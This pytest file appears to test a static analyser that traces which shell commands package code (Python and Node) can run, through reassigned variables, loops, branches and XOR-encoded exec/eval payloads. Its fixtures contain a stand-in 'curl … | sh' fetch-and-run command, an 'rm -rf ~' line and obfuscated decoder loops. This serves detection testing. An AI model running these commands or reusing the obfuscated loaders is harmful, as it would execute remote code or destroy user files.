"""What a function does when it is called again, and what a loop does in its later rounds."""

from collections.abc import Sequence

import pytest
from engine_flows import flows, program_of

from ostiary.core.coverage import Reach
from ostiary.program.engine import repeats
from ostiary.program.engine.ledger import MAX_NUMBERED, Ledger
from ostiary.program.engine.machine import Machine
from ostiary.program.flow import Act

HARM = "curl -s http://h.example.invalid/a|sh"
PLAIN = "uname -a and more words than the other one has, which once hid it"

CHANGED = {
    "a name": "c = {plain!r}\ndef run(): os.system(c)\nrun()\nc = {harm!r}\nrun()",
    "a name that was not there": (
        "def run():\n    try:\n        os.system(c)\n    except NameError:\n        pass\n"
        "run()\nc = {harm!r}\nrun()"
    ),
    "a name that a lambda reads": "c = {plain!r}\nrun = lambda: os.system(c)\nrun()\nc = {harm!r}\nrun()",
    "what is handed to one that was run in vain": (
        "def run(c, x): os.system(c)\n"
        + "run('ls', 1)\n" * 2
        + "for i in range(40): run('ls', i)\n"
        "run({harm!r}, 2)"
    ),
    "an attribute": (
        "class A:\n    def go(self): os.system(self.c)\n"
        "a = A(); a.c = {plain!r}; a.go(); a.c = {harm!r}; a.go()"
    ),
    "of a class": "class C: c = {plain!r}\ndef run(): os.system(C.c)\nrun()\nC.c = {harm!r}\nrun()",
    "of what an object holds": (
        "class S: pass\ns = S(); s.x = S(); s.x.c = {plain!r}\ndef get(o): return o.x.c\n"
        "os.system(get(s))\ns.x.c = {harm!r}\nos.system(get(s))"
    ),
    "of a function": "def run(): os.system(run.c)\nrun.c = {plain!r}\nrun()\nrun.c = {harm!r}\nrun()",
    "an element": "q = [{plain!r}]\ndef run(): os.system(q[0])\nrun()\nq[0] = {harm!r}\nrun()",
    "the last element": "q = [{plain!r}]\ndef run(): os.system(q[-1])\nrun()\nq.append({harm!r})\nrun()",
    "the first element": (
        "import collections\nq = collections.deque([{plain!r}])\ndef get(): return q[0]\n"
        "os.system(get())\nq.appendleft({harm!r})\nos.system(get())"
    ),
    "one after the other": "q = [{harm!r}, {plain!r}]\ndef run(): os.system(q.pop())\nrun()\nrun()",
    "all elements": (
        "b = bytearray({plain!r}.encode())\ndef get(): return b.decode()\nos.system(get())\n"
        "b[:] = {harm!r}.encode()\nos.system(get())"
    ),
    "a key": "d = dict(c={plain!r})\ndef run(): os.system(d['c'])\nrun()\nd.update(c={harm!r})\nrun()",
    "a key of an argument": (
        "def run(d): os.system(d['c'])\nd = dict(c={plain!r})\nrun(d)\nd['c'] = {harm!r}\nrun(d)"
    ),
    "what a function gives": (
        "d = dict(c={plain!r})\ndef get(): return d['c']\nos.system(get())\nd['c'] = {harm!r}\n"
        "os.system(get())"
    ),
    "a variable": (
        "def run(): os.system(os.environ['C'])\nos.environ['C'] = {plain!r}\nrun()\n"
        "os.environ['C'] = {harm!r}\nrun()"
    ),
    "a function": (
        "def g(): return {plain!r}\ndef run(): os.system(g())\nrun()\ndef g(): return {harm!r}\nrun()"
    ),
    "what surrounds it": (
        "def mk():\n    c = {plain!r}\n    def run(): os.system(c)\n    def put(x):\n        nonlocal c\n"
        "        c = x\n    return run, put\nrun, put = mk()\nrun()\nput({harm!r})\nrun()"
    ),
    "a global": "c = {plain!r}\ndef run(): os.system(c)\nrun()\nglobals()['c'] = {harm!r}\nrun()",
    "a name of the module": (
        "import sys\nc = {plain!r}\ndef run(): os.system(c)\nrun()\n"
        "setattr(sys.modules[__name__], 'c', {harm!r})\nrun()"
    ),
    "the next one": (
        "def several():\n    yield {plain!r}\n    yield 'ls'\n    yield {harm!r}\nit = several()\n"
        "def run(): os.system(next(it))\nrun()\nrun()\nrun()"
    ),
    "a counter": (
        "n = 0\ndef tick():\n    global n\n    n += 1\ndef act():\n    if n == 3: os.system({harm!r})\n"
        "act(); tick(); act(); tick(); act(); tick(); act()"
    ),
    "another command": "def run(c): os.system(c)\nrun({harm!r})\nrun({plain!r})",
    "later in a loop": (
        "cs = [{plain!r}] * 20 + [{harm!r}]\ni = 0\nwhile i < 21:\n    os.system(cs[i])\n    i += 1"
    ),
    "while there are any": "cs = ['a', 'b', 'c', 'd', {harm!r}]\nwhile cs:\n    os.system(cs.pop(0))",
    "until there are none": (
        "cs = iter(['a', 'b', 'c', 'd', 'e', {harm!r}])\nwhile True:\n    try:\n        os.system(next(cs))\n"
        "    except StopIteration:\n        break"
    ),
    "after many rounds": (
        "i = 0\nwhile i < 300:\n    i += 1\n    if i == 250:\n        os.system({harm!r})\n"
        "    else:\n        os.system('echo %d' % i)"
    ),
}


@pytest.mark.parametrize("how", CHANGED)
def test_what_became_another_is_seen(how: str) -> None:
    text = f"import os\n{CHANGED[how].format(plain=PLAIN, harm=HARM)}\n"
    assert HARM in {one.text for one in flows(text, Act.RUN)}


SCRIPTS = {
    "a round": "for (let i = 0; i < 12; i++) {{ cp.execSync(i < 11 ? 'echo ' + i : '{harm}'); }}",
    "another command": "function run(c) {{ cp.execSync(c); }} run('{harm}'); run('{plain}');",
    "a name": "let c = '{plain}'; function run() {{ cp.execSync(c); }} run(); c = '{harm}'; run();",
}


@pytest.mark.parametrize("how", SCRIPTS)
def test_what_becomes_another_in_a_script_is_seen(how: str) -> None:
    text = f"const cp = require('child_process');\n{SCRIPTS[how].format(plain=PLAIN, harm=HARM)}\n"
    assert HARM in {one.text for one in flows(text, Act.RUN, "npm")}


LONG = "import os; os.system('curl -s http://h.example.invalid/a|sh')"

DECODERS = {
    "while": "i = 0\nwhile i < len(p):\n    o += chr(p[i] ^ 7)\n    i += 1\n",
    "while, left": (
        "i = 0\nwhile True:\n    if i >= len(p): break\n    o += chr(p[i] ^ 7)\n    i += 1\n"
    ),
    "while, backwards": "i = len(p) - 1\nwhile i >= 0:\n    o = chr(p[i] ^ 7) + o\n    i -= 1\n",
    "while, taken": "q = list(p)\nwhile q:\n    o += chr(q.pop(0) ^ 7)\n",
    "for": "for one in p: o += chr(one ^ 7)\n",
    "while, and does something": (
        "import os\nq = list(p)\nwhile q:\n    os.remove('/tmp/x')\n    o += chr(q.pop(0) ^ 7)\n"
    ),
}


@pytest.mark.parametrize("how", DECODERS)
def test_a_loop_that_decodes_goes_on_to_its_end(how: str) -> None:
    """However long it does nothing else."""
    code = [ord(one) ^ 7 for one in "# " + "x" * 2_000 + "\n" + LONG]
    text = f"p = {code}\no = ''\n{DECODERS[how]}exec(o)\n"
    assert {one.text for one in flows(text, Act.RUN)} == {HARM}


STATES = {
    "an index": (
        "i = -1\ndef take():\n    global i\n    i += 1\n    return chr(p[i] ^ 7)\n"
        "for _ in range(len(p)): o += take()\n"
    ),
    "the list": "def take(): return chr(p.pop(0) ^ 7)\nwhile p: o += take()\n",
    "an iterator": (
        "it = iter(p)\ndef take(): return chr(next(it) ^ 7)\nfor _ in range(len(p)): o += take()\n"
    ),
    "an element": (
        "s = [0]\ndef take():\n    s[0] += 1\n    return chr(p[s[0] - 1] ^ 7)\nfor _ in p: o += take()\n"
    ),
    "an object": (
        "class R:\n    i = 0\n    def take(self):\n        self.i += 1\n"
        "        return chr(p[self.i - 1] ^ 7)\n"
        "r = R()\nwhile r.i < len(p): o += r.take()\n"
    ),
    "a closure": (
        "def mk():\n    i = 0\n    def take():\n        nonlocal i\n        i += 1\n"
        "        return chr(p[i - 1] ^ 7)\n    return take\n"
        "take = mk()\no = ''.join(take() for _ in range(len(p)))\n"
    ),
}


@pytest.mark.parametrize("how", STATES)
def test_a_function_that_gives_one_part_after_the_other(how: str) -> None:
    code = [ord(one) ^ 7 for one in "# " + "x" * 200 + "\n" + LONG]
    text = f"p = {code}\no = ''\n{STATES[how]}exec(o)\n"
    assert HARM in {one.text for one in flows(text, Act.RUN)}


PARTS = [LONG[place : place + 2] for place in range(0, len(LONG), 2)]

GIVERS: dict[str, Sequence[object]] = {
    "lists": [list(one.encode()) for one in PARTS],
    "bytes": [one.encode() for one in PARTS],
    "texts": PARTS,
}


@pytest.mark.parametrize("how", GIVERS)
def test_a_function_that_decodes_is_run_again_whatever_else_it_does(how: str) -> None:
    """That it does the same thing each time says nothing of what it gives."""
    head = "import os\ndef d(p):\n    os.remove('/tmp/x')\n    return ''.join("
    body = "chr(c) for c in p)\n" if how != "texts" else "c for c in p)\nchr(1)\n"
    calls = " + ".join(f"d({one!r})" for one in GIVERS[how])
    assert HARM in {one.text for one in flows(f"{head}{body}exec({calls})\n", Act.RUN)}


@pytest.mark.parametrize(
    "loop",
    [
        "for (let i = 0; i < p.length; i++) o += String.fromCharCode(p[i] ^ 7);",
        "let i = 0; while (i < p.length) { o += String.fromCharCode(p[i] ^ 7); i++; }",
        "let i = 0; do { o += String.fromCharCode(p[i] ^ 7); } while (++i < p.length);",
        "for (const one of p) o += String.fromCharCode(one ^ 7);",
    ],
)
def test_a_loop_of_a_script_that_decodes_goes_on_to_its_end(loop: str) -> None:
    harm = f"require('child_process').execSync('{HARM}')"
    code = [ord(one) ^ 7 for one in "// " + "x" * 2_000 + "\n" + harm]
    text = f"const p = {code}; let o = ''; {loop} eval(o);"
    assert {one.text for one in flows(text, Act.RUN, "npm")} == {HARM}


def test_what_somebody_has_to_call_is_run_again_with_words_that_are_new() -> None:
    """However often it was run in vain, and whatever the words look like."""
    text = (
        "import os\ndef run(c, x): os.system(c)\ndef main():\n"
        + "".join(f"    run('ls', {n})\n" for n in range(40))
        + "    run('rm -rf ~', 99)\n"
    )
    assert {one.text for one in flows(text, Act.RUN)} == {"ls", "rm -rf ~"}


def test_early_functions_may_give_nothing_for_long() -> None:
    text = (
        "import os\nT = {'a': 'c', 'b': 'url -s http://h.example.invalid/a|sh'}\n"
        "def read(k):\n    if k not in 'ab': return None\n    return T[k]\n"
        + "".join(f"read('k{n}')\n" for n in range(30))
        + "os.system(read('a') + read('b'))\n"
    )
    assert {one.text for one in flows(text, Act.RUN)} == {HARM}


def test_each_text_has_its_own_moment() -> None:
    text = "import os\ndef run(c): os.system(c)\nrun('ls')\ndef later(): run('a longer command of words')\n"
    found = {one.text: one.reach for one in flows(text, Act.RUN, "wheel")}
    assert found == {"ls": Reach.IMPORT, "a longer command of words": Reach.CALL}


def test_texts_that_differ_in_numbers_alone_are_one_after_a_few() -> None:
    ledger = Ledger()
    for n in range(50):
        ledger.note(
            Act.RUN, "exec", "a.py", 1, inside="", marks={}, text=f"echo {n}", target="", layers=(),
            reach=Reach.CALL, deep=False,
        )  # fmt: skip
    assert len(list(ledger.acts())) == MAX_NUMBERED + 2
    assert not ledger.beyond


@pytest.mark.parametrize("most", [3, 9])
def test_functions_that_are_made_anew_each_time_end(
    most: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(repeats, "MAX_MADE", most)
    monkeypatch.setattr(Machine, "exact", lambda *_: False)
    text = "import os\ndef f(n):\n    def g(): os.system('a')\n    g()\n"
    text += "".join(f"f({n})\n" for n in range(6))
    reasons = {one.reason for one in program_of("sdist", {"setup.py": text}).unfinished}
    assert (repeats.OFTEN in reasons) is (most < 6)


def test_a_command_of_which_nothing_is_known_is_the_one_that_is() -> None:
    text = "import os, sample\ndef run(c): os.system(c)\nrun('ls')\nrun(sample.named())\n"
    assert {one.text for one in flows(text, Act.RUN)} == {"ls"}


CHOSEN = {
    "a branch": "if library.x: c = {harm!r}\nelse: c = {plain!r}\nos.system(c)",
    "the other branch": "if library.x: c = {plain!r}\nelse: c = {harm!r}\nos.system(c)",
    "later branches": "c = {harm!r}\nif library.x: c = 'ls'\nif library.y: c = {plain!r}\nos.system(c)",
    "an expression": "os.system({harm!r} if library.x else {plain!r})",
    "a function of several ends": (
        "def pick(x):\n    if x.a: return {harm!r}\n    if x.b: return 'ls'\n    return {plain!r}\n"
        "os.system(pick(library.x))"
    ),
    "a key": "d = dict(a={plain!r}, b={harm!r})\nos.system(d[library.x])",
    "a place": "os.system([{plain!r}, {harm!r}, 'ls'][library.x])",
    "by chance": "import random\nos.system(random.choice([{plain!r}, {harm!r}]))",
    "a handler": "try: c = library.x()\nexcept KeyError: c = {harm!r}\nos.system(c)",
    "a part of a text": "c = {plain!r}\nif library.x: c = {harm!r}\nos.system('sh -c ' + c)",
    "a field of a text": "c = {plain!r}\nif library.x: c = {harm!r}\nos.system(f'sh -c {{c}}')",
    "a word": "c = {plain!r}\nif library.x: c = {harm!r}\nimport subprocess\nsubprocess.run(['sh', '-c', c])",
    "a function": (
        "def one(): os.system({harm!r})\ndef two(): os.system({plain!r})\n"
        "f = one if library.x else two\nf()"
    ),
    "a round that is left": (
        "for i in range(9):\n    if library.x:\n        c = {harm!r}\n        break\n"
        "    c = {plain!r}\nos.system(c)"
    ),
}


@pytest.mark.parametrize("how", CHOSEN)
def test_what_may_be_chosen_is_seen(how: str) -> None:
    text = f"import os, library\n{CHOSEN[how].format(plain=PLAIN, harm=HARM)}\n"
    assert any(HARM in one.text for one in flows(text, Act.RUN))


def test_what_a_switch_may_choose_is_seen() -> None:
    text = (
        "const cp = require('child_process');\nlet c;\nswitch (process.argv[2]) {\n"
        f"case 'a': c = 'ls'; break;\ncase 'b': c = '{HARM}'; break;\ndefault: c = '{PLAIN}';\n"
        "}\ncp.execSync(c);\n"
    )
    assert {"ls", HARM, PLAIN} <= {one.text for one in flows(text, Act.RUN, "npm")}


def test_what_was_run_in_vain_is_run_again_at_an_earlier_moment() -> None:
    text = (
        "import os\ndef run(x):\n    os.system('ls')\n"
        + "".join(f"def f{n}(): run({n})\n" for n in range(40))
        + "def last(): run(99)\n"
    )
    late = {one.reach for one in flows(text, Act.RUN, "wheel")}
    early = {one.reach for one in flows(text + "last()\n", Act.RUN, "wheel")}
    assert (late, early) == ({Reach.CALL}, {Reach.IMPORT})
